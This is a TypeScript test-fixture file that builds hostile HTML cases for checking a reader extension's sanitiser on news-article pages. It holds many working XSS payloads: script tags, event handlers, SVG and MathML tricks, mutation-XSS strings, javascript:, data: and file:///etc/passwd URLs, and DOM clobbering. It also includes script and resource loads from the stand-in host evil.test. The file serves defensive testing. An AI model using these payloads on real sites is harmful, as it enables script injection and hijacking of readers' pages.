/*
 * Hostile pages of our own: what a page could hold to run script, to load, to lead away, to break the reader, or to pass for the
 * article. Each case is a piece of HTML for the middle of an article, and sometimes for its head. Whatever would run calls `hit()`;
 * whatever would load asks evil.test.
 */

/** One case: its class, its name, what stands in the article, and what in the page's head. */
export interface Case {
  kind: string;
  name: string;
  html: string;
  head?: string;
}

const HIT = "hit()";
const EVIL = "https://evil.test";

const cases: Case[] = [];
const add = (
  kind: string,
  items: readonly (string | [html: string, head: string])[],
): void => {
  items.forEach((item, index) => {
    const [html, head] = typeof item === "string" ? [item] : item;
    cases.push({
      kind,
      name: `${kind} ${index + 1}`,
      html,
      ...(head ? { head } : {}),
    });
  });
};
const each = <T>(items: readonly T[], make: (item: T) => string): string[] =>
  items.map(make);

add("script", [
  `<script>${HIT}</script>`,
  `<SCRIPT>${HIT}</SCRIPT>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">${HIT}</script>`,
  `<script nomodule>${HIT}</script>`,
  `<script type="text/javascript">${HIT}</script>`,
  `<script async src="${EVIL}/b.js"></script>`,
  `<script type="importmap">{"imports":{"x":"${EVIL}/x.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/p"]}]}</script>`,
  `<p><script>${HIT}</script>kata</p>`,
  `<table><tr><td><script>${HIT}</script></td></tr></table>`,
  `<ul><li><script>${HIT}</script></li></ul>`,
  `<script/src="${EVIL}/c.js"></script>`,
  `<scr<script>ipt>${HIT}</script>`,
  `<script>document.write("<img src=x onerror=${HIT}>")</script>`,
  `<div><script language="vbscript">MsgBox 1</script></div>`,
]);

const EVENTS =
  "abort animationend animationstart auxclick beforeinput beforetoggle blur canplay change click close contextmenu copy cut dblclick drag dragend drop error focus focusin formdata input invalid keydown keyup load loadeddata message mousedown mouseenter mouseover mouseup paste pointerdown pointerover pointerrawupdate reset resize scroll scrollend select selectionchange submit toggle touchstart transitionend wheel".split(
    " ",
  );
add("handlers", [
  ...each(
    EVENTS,
    (event) =>
      `<p on${event}="${HIT}" tabindex="0">kata on${event} yang berdiri</p>`,
  ),
  ...each(
    [
      "img src=x",
      "video src=x",
      "audio src=x",
      "source src=x",
      "input autofocus",
      "details open",
      "select autofocus",
      "textarea autofocus",
      "iframe src=x",
      "body",
      "marquee",
      "svg",
    ],
    (tag) =>
      `<${tag} onerror="${HIT}" onload="${HIT}" onfocus="${HIT}" ontoggle="${HIT}" onstart="${HIT}">`,
  ),
  `<p OnClIcK="${HIT}">kata</p>`,
  `<p/onclick="${HIT}">kata</p>`,
  `<p onclick\n=\n"${HIT}">kata</p>`,
  `<p onclick=&#104;it()>kata</p>`,
]);

const SVG = [
  `<script>${HIT}</script>`,
  `<animate onbegin="${HIT}" attributeName="x" dur="1s"/>`,
  `<set attributeName="onmouseover" to="${HIT}"/>`,
  `<a xlink:href="javascript:${HIT}"><text y="20">klik</text></a>`,
  `<a href="javascript:${HIT}"><circle r="40"/></a>`,
  `<foreignObject><img src=x onerror="${HIT}"></foreignObject>`,
  `<foreignObject><iframe src="javascript:${HIT}"></iframe></foreignObject>`,
  `<image href="${EVIL}/s.png"/>`,
  `<image xlink:href="${EVIL}/s.png"/>`,
  `<use href="${EVIL}/s.svg#a"/>`,
  `<use href="data:image/svg+xml,<svg id='x' onload='${HIT}'/>#x"/>`,
  `<style>*{background:url(${EVIL}/bg)}</style>`,
  `<style><img src=x onerror=${HIT}></style>`,
  `<title><img src=x onerror=${HIT}></title>`,
  `<desc><p onclick="${HIT}">kata</p></desc>`,
  `<animate attributeName="href" values="javascript:${HIT}"/>`,
  `<handler type="text/javascript">${HIT}</handler>`,
  `<feImage href="${EVIL}/f.png"/>`,
];
add("svg", [
  ...each(SVG, (inner) => `<svg>${inner}</svg>`),
  ...each(
    SVG.slice(0, 8),
    (inner) => `<p>kata <svg onload="${HIT}">${inner}</svg> kata</p>`,
  ),
]);

const MATH = [
  `<maction actiontype="statusline#${EVIL}" xlink:href="javascript:${HIT}">klik</maction>`,
  `<mtext><img src=x onerror=${HIT}></mtext>`,
  `<mi xlink:href="javascript:${HIT}">x</mi>`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${HIT}></annotation-xml>`,
  `<annotation-xml encoding="application/xhtml+xml"><script>${HIT}</script></annotation-xml>`,
  `<mglyph src="${EVIL}/g.png"/>`,
  `<semantics><annotation-xml><svg onload=${HIT}></svg></annotation-xml></semantics>`,
  `<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
];
add("mathml", [
  ...each(MATH, (inner) => `<math>${inner}</math>`),
  ...each(
    MATH.slice(0, 4),
    (inner) => `<math href="javascript:${HIT}">${inner}</math>`,
  ),
]);

add("mutation", [
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<p title="--><img src=x onerror=${HIT}>">kata</p>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<xmp><img src=x onerror=${HIT}></xmp>`,
  `<listing>&lt;img src=x onerror=${HIT}&gt;</listing>`,
  `<p>&lt;img src=x onerror=${HIT}&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;${HIT}&amp;lt;/script&amp;gt;</p>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<template shadowrootmode="open"><img src=x onerror=${HIT}></template>`,
  `<noembed><img src=x onerror=${HIT}></noembed>`,
  `<noframes><img src=x onerror=${HIT}></noframes>`,
  `<option><style></option></select><img src=x onerror=${HIT}></style></option>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>"></svg>`,
  `<math><mi><b><mglyph><style></b></math><img src=x onerror=${HIT}>`,
  `<table><td><svg><style></td></table><img src=x onerror=${HIT}>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${HIT}&gt;" href="/x">tautan</a>`,
  `<p title='\`onmouseover=${HIT}'>kata</p>`,
  `<img alt="\`><img src=x onerror=${HIT}>" src="https://images.bisnis.com/a.jpg">`,
]);

const SCHEMES = [
  "javascript:",
  "JavaScript:",
  "\u0001javascript:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "java&Tab;script:",
  "javascript&colon;",
  "&#106;avascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==,",
  "blob:https://market.bisnis.com/",
  "filesystem:https://market.bisnis.com/",
  "file:///etc/passwd#",
  "intent://scan/#Intent;scheme=",
  "ms-msdt:",
  "chrome://settings/",
  "chrome-extension://abc/",
  "moz-extension://abc/",
  "view-source:https://market.bisnis.com/",
  "about:blank#",
  "ftp://evil.test/",
  "ws://evil.test/",
  "resource://gre/",
  "feed:javascript:",
  "jar:https://evil.test!/",
];
add(
  "schemes of links",
  each(
    SCHEMES,
    (scheme) => `<p>Kata <a href="${scheme}${HIT}">tautan</a> kata.</p>`,
  ),
);
add(
  "schemes of photos",
  each(
    SCHEMES,
    (scheme) =>
      `<figure><img src="${scheme}${HIT}" alt="foto"><figcaption>Foto</figcaption></figure>`,
  ),
);
add(
  "schemes of areas",
  each(
    SCHEMES.slice(0, 12),
    (scheme) =>
      `<map name="m"><area href="${scheme}${HIT}" alt="daerah"></map>`,
  ),
);

const FORMS = [
  "parentNode",
  "childNodes",
  "attributes",
  "firstChild",
  "nextSibling",
  "tagName",
  "textContent",
  "innerHTML",
  "children",
  "style",
  "removeChild",
  "getAttribute",
  "className",
  "nodeType",
  "ownerDocument",
  "id",
  "querySelectorAll",
  "localName",
  "remove",
  "append",
  "length",
  "action",
];
add(
  "clobbering by fields",
  each(
    FORMS,
    (name) =>
      `<button>Buka</button><form hidden><p>Kalimat dalam formulir yang cukup panjang untuk dibaca.</p><input name="${name}"><input name="${name}"></form>`,
  ),
);
add(
  "clobbering of the document",
  each(
    [
      "querySelector",
      "querySelectorAll",
      "body",
      "head",
      "createElement",
      "documentElement",
      "title",
      "cookie",
      "location",
      "implementation",
      "getElementsByTagName",
      "defaultView",
    ],
    (name) =>
      `<img name="${name}" src="https://images.bisnis.com/a.jpg"><form name="${name}"></form><a id="${name}" name="${name}"></a><embed name="${name}">`,
  ),
);
// What content scripts look for by name in their own world, where a page's elements answer to their names too.
add("clobbering of the extension", [
  `<form id="browser"><p>kata</p><input name="runtime" id="x"></form>`,
  `<form id="chrome"><p>kata</p><input name="runtime" id="x"></form>`,
  `<form id="bening"><p>kata</p><input name="reader"><input name="reading"><input name="auto"><input name="fonts"><input name="speaker"></form>`,
  `<a id="navigation"></a><a id="CSS"></a><a id="document"></a>`,
]);

add("base, meta, forms, frames", [
  ["<p>kata</p>", `<base href="${EVIL}/">`],
  ["<p>kata</p>", `<base href="javascript:/">`],
  ["<p>kata</p>", `<base target="evil">`],
  [
    "<p>kata</p>",
    `<meta http-equiv="content-language" content="x'><img src=x onerror=${HIT}>">`,
  ],
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<form action="${EVIL}/"><button>Kirim</button></form>`,
  `<form action="javascript:${HIT}"><input type="submit"></form>`,
  `<button formaction="javascript:${HIT}">Klik</button>`,
  `<input type="image" src="${EVIL}/i.png" formaction="${EVIL}">`,
  `<isindex action="javascript:${HIT}" type="image">`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="${EVIL}/f"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${HIT}</script>"></iframe>`,
  `<frameset><frame src="javascript:${HIT}"></frameset>`,
  `<object data="javascript:${HIT}"></object>`,
  `<object data="${EVIL}/o.swf"><param name="movie" value="${EVIL}/o.swf"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<embed src="${EVIL}/e.swf">`,
  `<applet code="${EVIL}/A.class"></applet>`,
  `<portal src="${EVIL}/"></portal>`,
  `<fencedframe src="${EVIL}/"></fencedframe>`,
  `<dialog open><p onclick="${HIT}">Masuk</p></dialog>`,
  `<keygen autofocus onfocus="${HIT}">`,
]);

add("noscript and lazy photos", [
  `<noscript><img src="${EVIL}/n.png"></noscript>`,
  `<noscript><img src="x" onerror="${HIT}"></noscript>`,
  `<noscript><img src="javascript:${HIT}"></noscript>`,
  `<noscript><script>${HIT}</script></noscript>`,
  `<noscript><img src='https://images.bisnis.com/a.jpg' onload='${HIT}'></noscript>`,
  ...each(
    [
      "data-src",
      "data-original",
      "data-lazy-src",
      "data-url",
      "data-srcset",
      "data-bg",
      "lowsrc",
      "dynsrc",
    ],
    (name) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${name}="javascript:${HIT}">`,
  ),
  ...each(
    ["data-src", "data-original", "data-lazy-src", "data-srcset"],
    (name) => `<img ${name}="x&quot; onerror=&quot;${HIT}" alt="foto">`,
  ),
  `<div data-background="url(javascript:${HIT})">kata</div>`,
  `<img data-src="//evil.test/l.png&quot;onload=&quot;${HIT}">`,
]);

add("srcset and picture", [
  ...each(
    [
      "javascript:hit() 1x",
      "https://evil.test/a.png 1x, javascript:hit() 2x",
      "data:text/html,x 1x",
      " , ,, 1x",
      "a".repeat(5000),
      "https://images.bisnis.com/a.jpg 1x,".repeat(500),
    ],
    (set) =>
      `<img srcset="${set}" src="https://images.bisnis.com/a.jpg" alt="foto">`,
  ),
  `<picture><source srcset="javascript:${HIT}"><img src="https://images.bisnis.com/a.jpg"></picture>`,
  `<picture onclick="${HIT}"><source srcset="${EVIL}/p.webp"><img src="x" onerror="${HIT}"></picture>`,
  `<picture><source onerror="${HIT}" srcset="x"></picture>`,
  `<link rel="preload" as="image" imagesrcset="${EVIL}/p.png 1x">`,
]);

const META = [
  `"><img src=x onerror=${HIT}>`,
  `<script>${HIT}</script>`,
  `javascript:${HIT}`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  "\u202egnp.oto\u0000f",
  "x".repeat(20_000),
];
add("metadata", [
  ...META.map((value): [string, string] => [
    "<p>kata</p>",
    `<meta property="og:title" content="${value.replaceAll('"', "&quot;")}"><meta name="author" content="${value.replaceAll('"', "&quot;")}">`,
  ]),
  ...META.map((value): [string, string] => [
    "<p>kata</p>",
    `<meta property="og:image" content="${value.replaceAll('"', "&quot;")}"><meta property="og:url" content="${value.replaceAll('"', "&quot;")}">`,
  ]),
  ...META.map((value): [string, string] => [
    "<p>kata</p>",
    `<link rel="canonical" href="${value.replaceAll('"', "&quot;")}"><meta property="article:published_time" content="${value.replaceAll('"', "&quot;")}">`,
  ]),
  ...META.map((value): [string, string] => [
    "<p>kata</p>",
    `<script type="application/ld+json">${JSON.stringify({ "@type": "NewsArticle", headline: value, author: { name: value }, image: value, datePublished: value, articleBody: value }).replaceAll("<", "\\u003c")}</script>`,
  ]),
  ...[
    "{",
    "[[[[",
    '{"@graph":null}',
    '{"__proto__":{"polluted":true}}',
    '{"author":{"author":{"author":1}}}',
    "null",
    "0",
    '"x"',
  ].map((json): [string, string] => [
    "<p>kata</p>",
    `<script type="application/ld+json">${json}</script>`,
  ]),
]);

add("style cover-ups", [
  `<style>body{display:none}</style>`,
  `<style>@import "${EVIL}/s.css";</style>`,
  `<link rel="stylesheet" href="${EVIL}/s.css">`,
  `<p style="position:fixed;inset:0;z-index:2147483647;background:red">Anda menang!</p>`,
  `<p style="background:url(${EVIL}/b.png)">kata</p>`,
  `<p style="width:expression(${HIT})">kata</p>`,
  `<p style="-moz-binding:url(${EVIL}/x.xml#a)">kata</p>`,
  `<p style="behavior:url(${EVIL}/x.htc)">kata</p>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style>`,
  `<p style="list-style-image:url(${EVIL}/l.png)">kata</p>`,
  `<p class="bar" id="bening-panel" data-action="close">Tutup</p>`,
  `<bening-reader><p>Palsu</p></bening-reader>`,
  `<div class="bening reader"><p>Palsu</p></div>`,
  `<p style="content:url(${EVIL}/c.png)" slot="x" part="y">kata</p>`,
]);

add("remote loads", [
  ...each(
    ["audio", "video", "track", "source", "input type=image", "embed", "img"],
    (tag) => `<${tag} src="${EVIL}/r" poster="${EVIL}/p" autoplay>`,
  ),
  `<video poster="${EVIL}/p.png"><source src="${EVIL}/v.mp4"></video>`,
  `<body background="${EVIL}/b.png"><table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">sel</td></tr></table>`,
  `<a href="/x" ping="${EVIL}/ping">tautan</a>`,
  `<link rel="prefetch" href="${EVIL}/x"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${EVIL}">`,
  `<link rel="modulepreload" href="${EVIL}/m.js"><link rel="manifest" href="${EVIL}/m.json">`,
  `<img src="//evil.test/proto.png" alt="foto">`,
  `<img src="https://images.bisnis.com.evil.test/a.png" alt="foto">`,
  `<img src="https://images.bisnis.com@evil.test/a.png" alt="foto">`,
  `<img src="https://evil.test/images.bisnis.com/a.png" alt="foto">`,
  `<html manifest="${EVIL}/a.appcache">`,
  `<q cite="${EVIL}/q">kutipan</q><del cite="javascript:${HIT}">hapus</del>`,
]);

add("unicode and look-alikes", [
  `<p>\u202eterbalik\u202c kata</p>`,
  `<p>\u2066isolasi\u2069 kata</p>`,
  `<p>${"\u0301".repeat(500)}zalgo</p>`,
  `<p>\ufeff\u200b\u200c\u200d tak terlihat</p>`,
  `<p>\ud800 separuh pasangan</p>`,
  `<p>&#0; nol &#xD800; &#x110000;</p>`,
  `<p dir="rtl">terbalik</p>`,
  `<p dir="x&quot; onclick=&quot;${HIT}">kata</p>`,
  `<p lang="&quot;><img src=x onerror=${HIT}>">kata</p>`,
  `<a href="https://bіsnis.com/">tautan ke bіsnis.com</a>`,
  `<a href="https://xn--bsnis-1of.com/">tautan</a>`,
  `<a href="https://market.bisnis.com:pass@evil.test/">tautan</a>`,
  `<a href="https:evil.test">tautan</a>`,
  `<a href="\\\\evil.test\\x">tautan</a>`,
  `<a href="https://evil.test\u3002com/">tautan</a>`,
  `<p>${"\u{1F468}\u200d\u{1F469}\u200d\u{1F467}".repeat(100)}</p>`,
]);

add("size", [
  `<p>${"kata ".repeat(20_000)}</p>`,
  `<p>${"x".repeat(100_000)}</p>`,
  `<p>${" ".repeat(200_000)}</p>`,
  `${"<div>".repeat(600)}<p>dalam</p>`,
  `${"<b>".repeat(600)}tebal`,
  `${"<blockquote>".repeat(450)}kutip`,
  `${"<ul><li>".repeat(450)}butir`,
  `${"<table><tr><td>".repeat(150)}sel`,
  `<img src="data:image/png;base64,${"A".repeat(200_000)}" alt="foto">`,
  `<img alt="${"a".repeat(200_000)}" src="https://images.bisnis.com/a.jpg">`,
  `<a href="https://market.bisnis.com/${"a".repeat(100_000)}">tautan</a>`,
  `<table><tr><td colspan="999999999" rowspan="999999999">sel</td></tr></table>`,
  `<ol start="99999999999999999999"><li>butir</li></ol>`,
  `<p>${"Baca Juga: ".repeat(5000)}</p>`,
  `<p>${"(".repeat(20_000)}</p>`,
  `<p>${"Rp1.".repeat(10_000)}</p>`,
  `<p>${"PT A Tbk. (".repeat(3000)}</p>`,
  `<img width="1e999" height="-5" src="https://images.bisnis.com/a.jpg">`,
]);

add("custom elements and islands", [
  `<x-evil onclick="${HIT}"><p>kata</p></x-evil>`,
  `<p is="x-evil">kata</p>`,
  `<slot name="x"><p>kata</p></slot>`,
  `<amp-img src="javascript:${HIT}"></amp-img>`,
  `<amp-iframe src="${EVIL}/a" srcdoc="<script>${HIT}</script>"></amp-iframe>`,
  `<amp-ad type="a9"><p>iklan</p></amp-ad>`,
  `<constructor>kata</constructor>`,
  `<__proto__>kata</__proto__>`,
  `<p constructor="x" __proto__="y" hasownproperty="z">kata</p>`,
  `<a:b xmlns:a="http://www.w3.org/1999/xhtml" a:onclick="${HIT}">kata</a:b>`,
  `<marquee onstart="${HIT}">lari</marquee>`,
  `<plaintext-x>kata</plaintext-x>`,
]);

add("our own marks", [
  `<span data-removal="1">kata</span>`,
  `<span data-removal="999999">kata</span>`,
  `<span data-removal="constructor">kata</span>`,
  `<p data-bening="0">kata</p>`,
  `<p data-bening-hidden>kata</p>`,
  `<p data-embed="evil"><a href="javascript:${HIT}">klik</a></p>`,
  `<p data-missing="2">Halaman 2</p>`,
  `<p data-noscript>kata</p>`,
  `<img data-noscript src="${EVIL}/n.png">`,
  `<section class="table" tabindex="0">kata</section>`,
]);

// What made-up pages have found (test/fuzz): a foreign sanitiser would have changed what came of them, or words ran together.
add("found by fuzzing", [
  `<p>kata <em dir=" ">!</em></p>`,
  `<p>kata <time datetime="javascript:${HIT}">kemarin</time> <em lang="&quot;>x">kata</em></p>`,
  `<figure><img src="blob:x"><figcaption>Foto<hr>Dok. Kabar</figcaption></figure>`,
  `<pre>satu<p>dua<p>tiga</pre>`,
  `<pre>\n\n<form><p><p>Kalimat</p></form></pre>`,
  `<p data-embed="evil"><iframe src="https://kabar.test/x"></p>`,
  `<img alt=" !" srcset="__proto__">`,
  `<table><mtext><math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;"></math>`,
]);

// What a pattern could read in more ways than there is time for, or from as many places as there are letters.
add("endless", [
  `<p><img src="https://images.bisnis.com/blank${"-1x1".repeat(40)}x.png"></p>`,
  `<p>Follow Kabar: ${"@a@:".repeat(60)} !</p>`,
  `<a href="?${"page=".repeat(60)}x=&=">Halaman 2</a>`,
  `<noscript>${"&lt;img ".repeat(40_000)}</noscript>`,
  `<pre>kata${" ".repeat(100_000)}kata</pre>`,
  `<table><tr><td>a</td><td>${"1,".repeat(20_000)}x1</td></tr><tr><td>b</td><td>2</td></tr></table>`,
  `<img srcset="${",.".repeat(50_000)}">`,
]);

/** Every case; names are their own. */
export const CASES: readonly Case[] = cases;

/** Running text that must be there whatever stands between it. */
export const FILLER: readonly string[] = [1, 2, 3, 4, 5, 6].map(
  (number) =>
    `Paragraf pengisi nomor ${number} bercerita tentang panen sagu di Meranti, cukup panjang untuk disebut kalimat berita.`,
);

/** The page of some cases: between the paragraphs of an article in the site's current markup. */
export function pageOf(some: readonly Case[]): string {
  const parts = FILLER.map(
    (text, index) =>
      `<p>${text}</p>${some
        .filter((_, at) => at % FILLER.length === index)
        .map(({ html }) => `<div class="sisipan">${html}</div>`)
        .join("")}`,
  );
  // What swallows the rest of the page would swallow it in the browser too: the text comes first.
  const [first = [], ...rest] = [
    parts.map((part) => part.slice(0, part.indexOf("</p>") + 4)),
    parts,
  ];
  return `<!doctype html><html lang="id"><head><meta charset="utf-8"><title>Panen Sagu di Meranti</title>${some
    .map(({ head }) => head ?? "")
    .join(
      "",
    )}</head><body><h1 class="detailsTitleCaption">Panen Sagu di Meranti</h1>
    <article class="detailsContent force-17 mt40">${first.join("")}${rest
      .flat()
      .map((part) => part.slice(part.indexOf("</p>") + 4))
      .join("")}</article></body></html>`;
}
